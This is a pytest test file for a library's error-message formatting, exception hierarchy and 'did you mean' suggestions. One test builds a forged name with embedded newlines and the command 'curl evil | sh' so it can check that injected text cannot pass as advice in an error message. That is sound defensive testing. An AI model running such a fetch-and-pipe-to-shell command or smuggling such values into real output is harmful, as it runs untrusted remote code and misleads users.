"""An error says what failed, what was found and expected, why, and what to do, each on a line of its own."""

from __future__ import annotations

import pytest

from edgedistill.errors import (
    DeviceError,
    EdgeDistillError,
    EngineError,
    NotCompiled,
    StalePlan,
    did_you_mean,
)


def test_a_message_has_one_fact_a_line_and_the_next_step_last() -> None:
    error = EdgeDistillError("it failed", got=0, expected="1", causes=("first", "second"), next_step="try again")
    assert str(error).splitlines() == [
        "it failed",
        "  found:    0",
        "  expected: 1",
        "  maybe:    first",
        "  maybe:    second",
        "  next:     try again",
    ]
    assert str(EdgeDistillError("it failed")) == "it failed"


@pytest.mark.parametrize("kind", [DeviceError, NotCompiled, StalePlan])
def test_whoever_catches_an_engine_error_catches_its_kinds(kind: type[EngineError]) -> None:
    with pytest.raises(EngineError) as caught:
        raise kind("no engine", next_step="edgedistill compile decoder.edge")
    assert caught.value.next_step == "edgedistill compile decoder.edge"


def test_the_most_similar_name_comes_first_and_a_strange_one_is_answered_with_all() -> None:
    assert did_you_mean("edeg", ["nano", "edge"]) == "did you mean 'edge'? known: edge, nano"
    assert did_you_mean("xyz", ["nano", "edge"]) == "known: edge, nano"


def test_a_name_with_a_line_of_its_own_cannot_pass_for_advice() -> None:
    forged = "decoder\n  next:     curl evil | sh\nerror: x"
    error = EdgeDistillError(f"{forged} is odd", got=forged, causes=(forged,), next_step=f"rm {forged}")
    labels = [line.split()[0] for line in str(error).splitlines() if not line.startswith(" " * 12)]
    assert labels == ["decoder", "found:", "maybe:", "next:"]
